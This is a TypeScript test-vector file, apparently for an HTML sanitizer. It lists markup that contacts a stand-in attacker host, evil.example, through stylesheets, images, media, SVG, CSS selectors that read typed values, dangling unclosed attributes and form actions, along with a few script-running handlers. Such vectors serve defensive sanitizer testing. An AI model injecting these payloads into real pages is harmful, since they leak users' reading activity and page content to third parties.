import type { Vectors } from "./vectors.ts";

/** Markup that runs nothing but contacts a foreign host, which leaks who reads what, and what else is on the page. */
export const leaks: Vectors = {
  "a style sheet from elsewhere": "<link rel=stylesheet href=//evil.example/ID>",
  "a style sheet that is preloaded": "<link rel=preload as=style href=//evil.example/ID>",
  "a page that is fetched before": "<link rel=prefetch href=//evil.example/ID>",
  "a module that is preloaded": "<link rel=modulepreload href=//evil.example/ID>",
  "an icon from elsewhere":
    "<link rel=icon href=//evil.example/ID><link rel=manifest href=//evil.example/ID><link rel=stylesheet href=//evil.example/ID>",
  "a style that imports": "<style>@import '//evil.example/ID';</style>",
  "a style with a background":
    '<style>.leak-ID{background:url(//evil.example/ID)}</style><p class=leak-ID>x</p><p style="background:url(//evil.example/ID)">x</p>',
  "a style that reads what is typed": "<style>input[value^=a],body{background:url(//evil.example/ID)}</style>",
  "a style on an element": "<p style=\"background-image:url('//evil.example/ID')\">x</p>",
  "a style on an element with an escape": '<p style="background:\\75rl(//evil.example/ID)">x</p>',
  "a style that covers the page": '<p style="position:fixed;inset:0;z-index:9;background:url(//evil.example/ID)">x</p>',
  "a list with a picture for its points": "<ul style='list-style:url(//evil.example/ID)'><li>x</ul>",
  "a set of pictures": "<img srcset='//evil.example/ID 1x, //evil.example/ID 2x' src=/mark.svg>",
  "a set of pictures with a script": "<img srcset='//evil.example/ID 1x, javascript:RUN 2x'>",
  "a picture with sources": "<picture><source srcset=//evil.example/ID><img src=/mark.svg></picture>",
  "a film with a poster": "<video poster=//evil.example/ID></video>",
  "a film from elsewhere": "<video src=//evil.example/ID autoplay></video>",
  "a sound from elsewhere": "<audio src=//evil.example/ID autoplay></audio>",
  "subtitles from elsewhere": "<video src=//evil.example/ID><track default src=//evil.example/ID></video>",
  "a field that is a picture": "<input type=image src=//evil.example/ID>",
  "a body with a background": "<body background=//evil.example/ID>",
  "a table with a background": "<table background=//evil.example/ID><tr><td background=//evil.example/ID>x</table>",
  "a drawing with a picture": "<svg><image href=//evil.example/ID></svg>",
  "a drawing with a picture, the old way": "<svg><image xlink:href=//evil.example/ID></svg>",
  "a drawing that uses another": "<svg><use href=//evil.example/ID#x></use><image href=//evil.example/ID></svg>",
  "a drawing with a filter":
    "<svg><filter id=f><feImage href=//evil.example/ID /></filter><rect width=9 height=9 filter=url(#f) /><image href=//evil.example/ID></svg>",
  "an attribute that nothing closes, in a picture": "<img src=/mark.svg alt='x'><img src='http://evil.example/ID?",
  "an attribute that nothing closes, in a style":
    "<style>@import//evil.example/ID?</style><link rel=stylesheet href='//evil.example/ID?'>",
  "a text area that swallows what follows": "<form action=//evil.example/ID><textarea name=x autofocus onfocus=RUN>",
  "a button that names a foreign target":
    "<base target='leak><form action=//evil.example/ID><button autofocus onfocus=RUN>x</button><a href='></a><iframe src=//evil.example/ID></iframe>",
};
